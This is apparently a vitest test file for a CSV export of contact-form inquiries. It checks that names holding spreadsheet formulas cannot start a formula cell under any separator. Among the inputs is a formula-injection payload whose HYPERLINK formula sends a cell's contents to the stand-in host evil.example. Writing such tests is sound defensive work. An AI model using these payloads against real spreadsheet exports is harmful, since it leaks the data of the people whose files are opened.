import { expect, it } from 'vitest';
import { listedInquiry } from '../../testing/contact-form.ts';
import { csvOf } from './csv.ts';

const inquiry = (name: string) => listedInquiry({ name, email: 'ann@example.com', goals: 'More data' });
/** The cells of a spreadsheet that splits at `separator` and ignores quotes. */
const cellsOf = (name: string, separator: RegExp) =>
  csvOf([inquiry(name)])
    .split(separator)
    .map((cell) => cell.replace(/^[\s"]+/, ''));

it.each([
  '=1+2',
  ' =1+2',
  'Ann;=HYPERLINK("http://evil.example?"&A1);x',
  'x;"=1+2"',
  'x\t=1+2',
  'x\r\n+1',
  'x|@SUM(1)',
  'x; ＝1',
])('no cell of %j starts a formula, whichever separator a spreadsheet uses', (name) => {
  for (const separator of [/,/, /;/, /\t/, /[\r\n]/, /\|/])
    expect(cellsOf(name, separator).filter((cell) => /^[=+@＝＋－＠-]/.test(cell))).toEqual([]);
});

it('the table does not change ordinary words', () => {
  expect(csvOf([inquiry('Ann "B" Lee; of A-B, Ohio')])).toContain('"Ann ""B"" Lee; of A-B, Ohio"');
});
